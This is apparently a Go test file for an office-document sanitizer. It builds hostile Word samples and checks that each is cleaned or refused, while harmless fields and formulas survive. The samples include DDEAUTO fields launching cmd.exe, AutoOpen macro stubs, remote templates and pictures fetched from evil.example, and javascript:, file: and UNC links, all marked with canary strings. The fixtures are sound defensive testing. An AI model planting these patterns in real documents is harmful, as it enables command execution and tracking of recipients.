package clean_test

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"io/fs"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/kaaw/nachbar/internal/office/clean"
	"github.com/kaaw/nachbar/internal/office/parts"
)

// sample is a hostile file with what has to become of it: the findings that
// the report has to hold, or the id of the refusal after "!".
type sample struct {
	name, want string
	data       []byte
}

// hostile are files of every kind that has to be cleaned or refused.
func hostile(tb testing.TB) []sample {
	return slices.Concat(hostileWord(tb), hostileSheets(tb), hostileODF(tb), hostilePDF(tb), hostilePictures(tb), hostileArchives(tb), hostileOthers(tb))
}

func hostileWord(tb testing.TB) []sample {
	none := rels()
	secret := para("Sichtbar") // what stays
	return []sample{
		{"template.docx", "template", docxFile(tb, secret, rels("settings", "settings.xml"), "word/settings.xml", head+"<w:settings "+wordSpace+`><w:attachedTemplate r:id="rId1"/><w:docVars><w:docVar w:name="x" w:val="KANARI"/></w:docVars></w:settings>`,
			"word/_rels/settings.xml.rels", rels("attachedTemplate", "!https://evil.example/KANARI.dotm"))},
		{"macro.docm", "macro", docxFile(tb, secret, rels("vbaProject", "vbaProject.bin"), "word/vbaProject.bin", "KANARI Sub AutoOpen()")},
		{"macro-elsewhere.docx", "macro", docxFile(tb, secret, none, "word/vbaProject.bin", canary, "word/vbaData.xml", canary)},
		{"dde.docx", "dde", docxFile(tb, secret+code(`DDEAUTO c:\\Windows\\System32\\cmd.exe "/k KANARI"`), none)},
		{"dde-split.docx", "dde", docxFile(tb, secret+code("D", "DE", "AU", "TO ", `excel "KANARI"`), none)},
		{"dde-simple.docx", "dde", docxFile(tb, secret+`<w:p><w:fldSimple w:instr="DDE excel KANARI"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`, none)},
		{"dde-nested.docx", "field", docxFile(tb, secret+`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>KANARI</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`, none)},
		{"dde-prefix.docx", "dde", docxFile(tb, secret+`<q:p xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:fldSimple q:instr=" ddeauto KANARI"/></q:p>`, none)},
		{"field-open.docx", "field", docxFile(tb, secret+`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT KANARI</w:instrText></w:r></w:p>`, none)},
		{"includepicture.docx", "field", docxFile(tb, secret+code(`INCLUDEPICTURE "https://evil.example/KANARI" \d`), none)},
		{"macrobutton.docx", "field", docxFile(tb, secret+code(`MACROBUTTON KANARI Klick`), none)},
		{"author-field.docx", "history", docxFile(tb, secret+code(`AUTHOR KANARI`), none)},
		{"link-file.docx", "link", docxFile(tb, secret+`<w:p><w:hyperlink r:id="rId1"><w:r><w:t>Klick</w:t></w:r></w:hyperlink></w:p>`, rels("hyperlink", `!file://server/KANARI`))},
		{"link-unc.docx", "link", docxFile(tb, secret+`<w:p><w:hyperlink r:id="rId1"><w:r><w:t>Klick</w:t></w:r></w:hyperlink></w:p>`, rels("hyperlink", `!\\server\KANARI`))},
		{"link-script.docx", "link", docxFile(tb, secret+`<w:p><w:hyperlink r:id="rId1"><w:r><w:t>Klick</w:t></w:r></w:hyperlink></w:p>`, rels("hyperlink", "!javascript:KANARI"))},
		{"link-field.docx", "link", docxFile(tb, secret+code(`HYPERLINK "file:///c:/KANARI"`), none)},
		{"picture-outside.docx", "external", docxFile(tb, secret+`<w:p><w:r><w:drawing><a:blip r:link="rId1"/></w:drawing></w:r></w:p>`, rels("image", "!https://evil.example/KANARI.png"))},
		{"ole.docx", "ole", docxFile(tb, secret+`<w:p><w:r><w:object><v:shape/><o:OLEObject Type="Embed" ProgID="KANARI" r:id="rId1"/></w:object></w:r></w:p>`, rels("oleObject", "embeddings/o.bin"), "word/embeddings/o.bin", canary)},
		{"activex.docx", "activex", docxFile(tb, secret+`<w:p><w:r><w:object><w:control r:id="rId1" w:name="KANARI"/></w:object></w:r></w:p>`, rels("control", "activeX/activeX1.xml"), "word/activeX/activeX1.xml", "<x>KANARI</x>")},
		{"altchunk.docx", "embedded", docxFile(tb, secret+`<w:altChunk r:id="rId1"/>`, rels("aFChunk", "KANARI.html"), "word/KANARI.html", "<script>KANARI</script>")},
		{"subdoc.docx", "embedded", docxFile(tb, secret+`<w:subDoc r:id="rId1"/>`, rels("subDocument", "!KANARI.docx"))},
		{"comments.docx", "comment", docxFile(tb, secret+`<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>x</w:t></w:r><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>`, rels("comments", "comments.xml", "people", "people.xml"), "word/comments.xml", "<x>KANARI</x>", "word/people.xml", "<x>KANARI</x>")},
		{"revision.docx", "revision", docxFile(tb, `<w:p><w:r><w:t>Sichtbar</w:t></w:r><w:del w:author="KANARI"><w:r><w:delText>KANARI</w:delText></w:r></w:del><w:ins w:author="KANARI"><w:r><w:t> neu</w:t></w:r></w:ins></w:p>`, none)},
		{"vanish.docx", "hidden-text", docxFile(tb, secret+`<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>KANARI</w:t></w:r></w:p>`, none)},
		{"vanish-style.docx", "hidden-text", docxFile(tb, secret+`<w:p><w:pPr><w:pStyle w:val="C"/></w:pPr><w:r><w:t>KANARI</w:t></w:r></w:p>`, rels("styles", "styles.xml"),
			"word/styles.xml", head+"<w:styles "+wordSpace+`><w:style w:type="paragraph" w:styleId="B"><w:rPr><w:vanish/></w:rPr></w:style><w:style w:type="paragraph" w:styleId="C"><w:basedOn w:val="B"/></w:style></w:styles>`)},
		{"customxml.docx", "custom-xml", docxFile(tb, secret, rels("customXml", "../customXml/item1.xml"), "customXml/item1.xml", "<x>KANARI</x>")},
		{"author.docx", "author company property", pack(tb, "[Content_Types].xml", types(`word/document.xml" ContentType="x`), "_rels/.rels", rels("officeDocument", "word/document.xml", "core-properties", "docProps/core.xml", "extended-properties", "docProps/app.xml", "custom-properties", "docProps/custom.xml"),
			"word/document.xml", head+"<w:document "+wordSpace+"><w:body>"+secret+"</w:body></w:document>",
			"docProps/core.xml", head+`<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>KANARI</dc:creator><cp:lastModifiedBy>KANARI</cp:lastModifiedBy><dc:title>Titel</dc:title></cp:coreProperties>`,
			"docProps/app.xml", head+`<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Company>KANARI</Company><Manager>KANARI</Manager><Template>C:\KANARI.dotm</Template></Properties>`,
			"docProps/custom.xml", head+`<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{0}" pid="2" name="KANARI"><vt:lpwstr>KANARI</vt:lpwstr></property></Properties>`)},
		{"picture-exif.docx", "picture-exif picture-place", docxFile(tb, secret+`<w:p><w:r><w:drawing><a:blip r:embed="rId1"/></w:drawing></w:r></w:p>`, rels("image", "media/a.jpg"), "word/media/a.jpg", string(withSegment(jpegFile(tb), 0xe1, exif(1))))},
		{"picture-emf.docx", "image", docxFile(tb, secret+`<w:p><w:r><w:drawing><a:blip r:embed="rId1"/></w:drawing></w:r></w:p>`, rels("image", "media/a.emf"), "word/media/a.emf", "\x01\x00\x00\x00KANARI")},
		{"printer.docx", "printer", docxFile(tb, secret, rels("printerSettings", "printerSettings1.bin"), "word/printerSettings1.bin", canary)},
		{"glossary.docx", "glossary", docxFile(tb, secret, rels("glossaryDocument", "glossary/document.xml"), "word/glossary/document.xml", "<x>KANARI</x>")},
		{"foreign-markup.docx", "markup", docxFile(tb, secret+`<x:evil xmlns:x="urn:KANARI">KANARI</x:evil>`, none)},
		{"doctype.docx", "!office-doctype", pack(tb, "[Content_Types].xml", types(`word/document.xml" ContentType="x`), "_rels/.rels", rels("officeDocument", "word/document.xml"), "word/document.xml", `<!DOCTYPE x [<!ENTITY a "b">]><w:document `+wordSpace+"/>")},
		{"wrong-root.docx", "!office-damaged", docxFile(tb, secret, rels("styles", "styles.xml"), "word/styles.xml", "<x/>")},
		{"not-xml.docx", "!office-damaged", docxFile(tb, "<w:p>", none)},
		{"no-main.docx", "!office-damaged", pack(tb, "[Content_Types].xml", types("x"), "_rels/.rels", rels())},
	}
}

func TestHostileFilesAreCleanedOrRefused(t *testing.T) {
	list := hostile(t)
	if len(list) < 60 {
		t.Errorf("only %d files", len(list))
	}
	for _, s := range list {
		t.Run(s.name, func(t *testing.T) {
			began := time.Now()
			res, err := clean.File(context.Background(), s.name, s.data)
			if took := time.Since(began); took > 2*time.Second {
				t.Errorf("took %v", took)
			}
			if id, refused := strings.CutPrefix(s.want, "!"); refused {
				var known *parts.Error
				if !errors.As(err, &known) || known.ID != id {
					t.Fatalf("got %v (%v), want the refusal %s", err, res.Findings, id)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			for _, id := range strings.Fields(s.want) {
				if !slices.ContainsFunc(res.Findings, func(f clean.Finding) bool { return f.ID == id }) {
					t.Errorf("%s is not listed: %v", id, res.Findings)
				}
			}
			if left := rescan(t, res.Data); len(left) > 0 {
				t.Errorf("left: %v", left)
			}
			checkTwice(t, s.name, res)
		})
	}
}

// A rescan that finds nothing in the hostile files themselves would prove
// nothing.
func TestTheRescanSeesWhatIsHostile(t *testing.T) {
	for _, s := range hostile(t) {
		harmlessBefore := []string{"hidden-row.xlsx", "rows.ods", "update.pdf", "foreign-markup.docx"}
		if strings.HasPrefix(s.want, "!") || slices.Contains(harmlessBefore, s.name) {
			continue
		}
		if left := rescan(t, s.data); len(left) == 0 {
			t.Errorf("%s: the rescan finds nothing before it is cleaned", s.name)
		}
	}
}

func TestTheFallbackTakesThePlaceOfUnknownAlternatives(t *testing.T) {
	body := `<w:p><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice xmlns:n="urn:neu" Requires="n"><w:r><w:t>neu</w:t></w:r></mc:Choice><mc:Fallback><w:r><w:t>alt</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>`
	res, err := clean.File(context.Background(), "a.docx", docxFile(t, body, rels()))
	if err != nil {
		t.Fatal(err)
	}
	document := part(t, res.Data, "word/document.xml")
	if !strings.Contains(document, "<w:p><w:r><w:t>alt</w:t></w:r></w:p>") {
		t.Error(document)
	}
}

// What a cleaner takes away must not be what a reader needs.
func TestHarmlessFieldsLinksAndFormulasStay(t *testing.T) {
	word, err := clean.File(context.Background(), "a.docx", docxFile(t, code(` PAGE `)+code(` TOC \o "1-3" \h `)+code(`HYPERLINK "https://example.org/a" \l "b"`)+
		`<w:p><w:hyperlink r:id="rId1"><w:r><w:t>x</w:t></w:r></w:hyperlink><w:hyperlink w:anchor="b"><w:r><w:t>y</w:t></w:r></w:hyperlink><w:bookmarkStart w:id="1" w:name="_nb_muster_a"/><w:bookmarkEnd w:id="1"/></w:p>`,
		rels("hyperlink", "!mailto:redaktion@example.org")))
	if err != nil || len(word.Findings) > 0 {
		t.Fatal(word.Findings, err)
	}
	document := part(t, word.Data, "word/document.xml")
	for _, want := range []string{" PAGE ", " TOC ", "https://example.org/a", `r:id="rId1"`, `w:anchor="b"`, "_nb_muster_a"} {
		if !strings.Contains(document, want) {
			t.Errorf("%s is gone: %s", want, document)
		}
	}
	for _, f := range []string{"SUM(A1:B2)", `IF(A1="[1]x!","|","!")`, "Tabelle[[#This Row],[2024]]*2", "Zwei!A1", "'Zwei Drei'!$A$1", "Tabelle1[2024]+1", "_xlfn.XLOOKUP(1,A:A,B:B)"} {
		book, err := clean.File(context.Background(), "a.xlsx", xlsxFile(t, "", formula(f), "<sheetData/>", ""))
		if err != nil || len(book.Troubling()) > 0 || !strings.Contains(part(t, book.Data, "xl/worksheets/sheet1.xml"), "<f>") {
			t.Errorf("%s does not stay: %v %v", f, book.Findings, err)
		}
	}
	for _, f := range []string{"of:=SUM([.A1:.B2])", "of:=[$Eins.A1]", "of:=['Eins Zwei'.A1]&quot;x&quot;", "of:=MAX({1;2|3;4})"} {
		sheet, err := clean.File(context.Background(), "a.ods", odsFile(t, "", `<table:table table:name="Z"><table:table-row><table:table-cell table:formula="`+f+`"/></table:table-row></table:table>`))
		if err != nil || len(sheet.Findings) > 0 || !strings.Contains(part(t, sheet.Data, "content.xml"), "table:formula=") {
			t.Errorf("%s does not stay: %v %v", f, sheet.Findings, err)
		}
	}
}

// part is the text of a part of an archive.
func part(t *testing.T, data []byte, name string) string {
	t.Helper()
	r, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	text, err := fs.ReadFile(r, name)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// checkTwice cleans a clean file: nothing is found any more, and no byte
// changes.
func checkTwice(t *testing.T, name string, res clean.Result) {
	t.Helper()
	again, err := clean.File(context.Background(), strings.TrimSuffix(name, extOf(name))+res.Ext, res.Data)
	if err != nil {
		t.Fatalf("the clean file is refused: %v", err)
	}
	if !bytes.Equal(res.Data, again.Data) || again.Ext != res.Ext {
		t.Error("cleaned again it has other bytes")
	}
	if len(again.Findings) > 0 {
		t.Errorf("cleaned again there is %v", again.Findings)
	}
}

func extOf(name string) string {
	if i := strings.LastIndexByte(name, '.'); i >= 0 {
		return name[i:]
	}
	return ""
}
